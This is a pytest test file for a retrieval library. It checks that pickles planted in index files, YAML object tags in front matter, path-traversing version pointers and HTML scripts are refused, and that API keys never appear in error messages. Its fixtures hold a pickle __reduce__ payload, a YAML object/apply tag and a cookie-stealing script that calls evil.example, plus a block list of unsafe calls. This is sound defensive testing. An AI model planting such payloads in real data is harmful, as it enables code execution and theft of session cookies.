"""Exposure checks that belong to the library: nothing read from disk is ever executed, and
secrets given to the LLM client never reach what a user sees.

Two layers: a static scan of rag/ (AST, so comments and docstrings don't count) for the calls that
turn data into code (pickle, eval/exec, unsafe YAML, np.load with pickles, shell commands), and
runtime proofs: an index whose files were replaced by pickle payloads, and front matter carrying a
YAML object tag, are refused without running the payload.
"""

from __future__ import annotations

import ast
import json
import os
import shutil
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import numpy as np
import pytest

from rag.errors import IndexMissingError, LLMError
from rag.index import Index
from rag.ingest import load_document
from rag.llm import OpenAICompatible

RAG = Path(__file__).resolve().parents[1] / "rag"
UNSAFE_MODULES = {"pickle", "cPickle", "_pickle", "dill", "cloudpickle", "joblib", "marshal", "shelve"}
UNSAFE_CALLS = {"eval", "exec", "compile", "__import__"}


def _sources() -> list[Path]:
    files = sorted(RAG.rglob("*.py"))
    assert len(files) > 15
    return files


def _dotted(node: ast.AST) -> str:
    if isinstance(node, ast.Attribute):
        return f"{_dotted(node.value)}.{node.attr}"
    if isinstance(node, ast.Name):
        return node.id
    return "?"


def _findings(path: Path) -> list[str]:
    tree = ast.parse(path.read_text(encoding="utf-8"), str(path))
    out: list[str] = []
    where = lambda n: f"{path.relative_to(RAG.parent)}:{n.lineno}"  # noqa: E731
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            out += [f"{where(node)} imports {a.name}" for a in node.names if a.name.split(".")[0] in UNSAFE_MODULES]
        elif isinstance(node, ast.ImportFrom) and (node.module or "").split(".")[0] in UNSAFE_MODULES:
            out.append(f"{where(node)} imports from {node.module}")
        elif isinstance(node, ast.Call):
            name = _dotted(node.func)
            kw = {k.arg: k.value for k in node.keywords if k.arg}
            true = lambda key, kw=kw: isinstance(kw.get(key), ast.Constant) and kw[key].value is True  # noqa: E731
            if isinstance(node.func, ast.Name) and name in UNSAFE_CALLS:
                out.append(f"{where(node)} calls {name}()")
            if name.endswith(("yaml.load", "yaml.unsafe_load", "yaml.full_load", "yaml.load_all")):
                out.append(f"{where(node)} calls {name} (use yaml.safe_load)")
            if name.split(".")[-1] in {"load", "loads", "save"} and "allow_pickle" in kw and not (
                    isinstance(kw["allow_pickle"], ast.Constant) and kw["allow_pickle"].value is False):
                out.append(f"{where(node)} calls {name} with allow_pickle not False")
            if name.endswith("torch.load") and not true("weights_only"):
                out.append(f"{where(node)} calls torch.load without weights_only=True")
            if name.endswith(("read_pickle", "to_pickle")):
                out.append(f"{where(node)} calls {name}")
            if name in {"os.system", "os.popen"} or name.startswith("os.exec") or name.startswith("os.spawn"):
                out.append(f"{where(node)} runs a shell command via {name}")
            if name.startswith("subprocess.") and true("shell"):
                out.append(f"{where(node)} runs subprocess with shell=True")
            if true("trust_remote_code"):
                out.append(f"{where(node)} passes trust_remote_code=True")
    return out


def test_no_code_from_data_anywhere_in_the_library():
    findings = [f for path in _sources() for f in _findings(path)]
    assert not findings, "\n".join(findings)


def test_the_scanner_itself_catches_what_it_looks_for(tmp_path):
    bad = tmp_path / "bad.py"
    bad.write_text("import pickle\nimport yaml, numpy as np, subprocess, os\n"
                   "x = eval('1')\nyaml.load(s)\nnp.load(p, allow_pickle=True)\n"
                   "subprocess.run('ls', shell=True)\nos.system('ls')\nm.eval()\n", encoding="utf-8")
    global RAG
    old, RAG = RAG, tmp_path
    try:
        found = _findings(bad)
    finally:
        RAG = old
    assert len(found) == 6, found  # model.eval() is a method, not the builtin


def test_every_np_load_in_the_library_leaves_allow_pickle_at_its_false_default():
    calls = []
    for path in _sources():
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call) and _dotted(node.func) in {"np.load", "numpy.load"}:
                kw = {k.arg: k.value for k in node.keywords}
                calls.append((path.name, node.lineno))
                assert "allow_pickle" not in kw or (isinstance(kw["allow_pickle"], ast.Constant)
                                                    and kw["allow_pickle"].value is False), (path, node.lineno)
    assert calls, "expected the index to load numpy arrays"
    import inspect

    assert inspect.signature(np.load).parameters["allow_pickle"].default is False


# --------------------------------------------------------------------------- runtime proofs
class _Payload:
    """Unpickling this creates a file: proof that a pickle ran."""

    def __init__(self, marker: Path):
        self.marker = str(marker)

    def __reduce__(self):
        return (open, (self.marker, "w"))


def _plant(path: Path, marker: Path) -> None:
    arr = np.array([_Payload(marker)], dtype=object)
    with open(path, "wb") as fh:
        np.save(fh, arr, allow_pickle=True)


@pytest.fixture()
def small_index(tmp_path):
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "a.md").write_text("# Rules\n\nThe agency publishes rules on AI models within 90 days.\n", encoding="utf-8")
    (docs / "b.md").write_text("## Chips\n\nExport controls apply to advanced chips.\n", encoding="utf-8")
    Index.build([docs], tmp_path / "index")
    return docs, tmp_path / "index"


@pytest.mark.parametrize("target", ["headings.npy", "vectors.npy", "bm25/data.csc.index.npy"])
def test_a_pickle_planted_in_the_index_is_never_unpickled(small_index, tmp_path, target):
    docs, index = small_index
    version = Index.open(index).version
    planted = version / target
    assert planted.exists(), sorted(p.name for p in version.rglob("*"))
    marker = tmp_path / "PWNED"
    _plant(planted, marker)
    with pytest.raises(Exception) as info:
        if target == "vectors.npy":  # read by incremental builds, not by open
            Index.build([docs], index)
        else:
            Index.open(index).retrieve("rules on AI models", k=2)
    assert not marker.exists(), f"{target}: a pickle from the index ran"
    assert "pickle" in str(info.value).lower() or "object" in str(info.value).lower(), info.value


def test_yaml_object_tags_in_front_matter_are_not_constructed(tmp_path):
    marker = tmp_path / "PWNED"
    doc = tmp_path / "evil.md"
    doc.write_text(f"---\ntitle: !!python/object/apply:builtins.open ['{marker}', 'w']\n---\nBody text about AI.\n",
                   encoding="utf-8")
    loaded = load_document(doc)
    assert not marker.exists()
    assert "Body text about AI." in loaded.text and "python/object" not in loaded.meta["title"]


def test_current_must_name_a_version_inside_the_index(small_index, tmp_path):
    _docs, index = small_index
    outside = tmp_path / "elsewhere"
    shutil.copytree(Index.open(index).version, outside / "v-evil")
    for pointer in ["../elsewhere/v-evil", str(outside / "v-evil"), "v-x/../../elsewhere/v-evil"]:
        (index / "CURRENT").write_text(pointer + "\n", encoding="utf-8")
        with pytest.raises(IndexMissingError):
            Index.open(index)


def test_html_scripts_and_event_handlers_never_reach_the_text(tmp_path):
    page = tmp_path / "page.html"
    page.write_text("<html><head><script>fetch('http://evil.example/?c='+document.cookie)</script></head><body>"
                    "<p onclick=\"alert(1)\">Visible policy text.</p><iframe src='http://evil.example'></iframe>"
                    "<object data='x.swf'></object><noscript>enable js</noscript></body></html>", encoding="utf-8")
    text = load_document(page).text
    assert "Visible policy text." in text
    assert not any(bad in text for bad in ("fetch(", "evil.example", "alert", "enable js"))


# ----------------------------------------------------------------- secrets in the LLM client
class _Echo(BaseHTTPRequestHandler):
    """An endpoint that refuses the key and echoes it back, as some servers do."""

    def log_message(self, *args) -> None:
        pass

    def do_POST(self) -> None:  # noqa: N802
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        auth = self.headers.get("Authorization", "")
        body = json.dumps({"error": f"invalid key {auth.removeprefix('Bearer ')}"}).encode()
        self.send_response(401)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


@pytest.fixture()
def echo_server():
    srv = ThreadingHTTPServer(("127.0.0.1", 0), _Echo)
    srv.daemon_threads = True
    threading.Thread(target=srv.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
    yield srv.server_address[1]
    srv.shutdown()
    srv.server_close()


@pytest.mark.timeout(60)
def test_the_api_key_never_appears_in_errors_names_or_notes(echo_server, monkeypatch, index_dir):
    secret = "sk-test-DO-NOT-SHOW-4242"
    monkeypatch.setenv("RAG_TEST_KEY", secret)
    gen = OpenAICompatible(base_url=f"http://127.0.0.1:{echo_server}/v1", api_key_env="RAG_TEST_KEY", timeout=5,
                           retries=0)
    with pytest.raises(LLMError) as info:
        "".join(gen.stream([{"role": "user", "content": "hi"}]))
    message = str(info.value)
    assert "HTTP 401" in message and "invalid key" in message  # the server did echo it
    assert secret not in message and secret not in gen.name, message

    from rag.answer import Assistant

    answer = Assistant(Index.open(index_dir), gen).ask("What did Kyle Chan say about state support?")
    everything = json.dumps(answer.to_json(), ensure_ascii=False)
    assert secret not in everything
    assert any("language model failed" in n for n in answer.notes), answer.notes
    assert os.environ.get("RAG_TEST_KEY") == secret  # the key is read, not consumed or rewritten


@pytest.mark.timeout(60)
def test_credentials_in_the_endpoint_url_are_not_shown(echo_server):
    gen = OpenAICompatible(base_url=f"http://svc:hunter2@127.0.0.1:{echo_server}/v1", api_key_env="RAG_NO_SUCH_KEY",
                           timeout=5, retries=0)
    assert "hunter2" not in gen.name and f"127.0.0.1:{echo_server}/v1" in gen.name
    with pytest.raises(LLMError) as info:
        "".join(gen.stream([{"role": "user", "content": "hi"}]))
    assert "HTTP 401" in str(info.value) and "hunter2" not in str(info.value), info.value
    refused = OpenAICompatible(base_url="http://svc:hunter2@127.0.0.1:9/v1", timeout=2, retries=0)
    with pytest.raises(LLMError) as info:
        "".join(refused.stream([{"role": "user", "content": "hi"}]))
    assert "hunter2" not in str(info.value) and "127.0.0.1:9" in str(info.value)
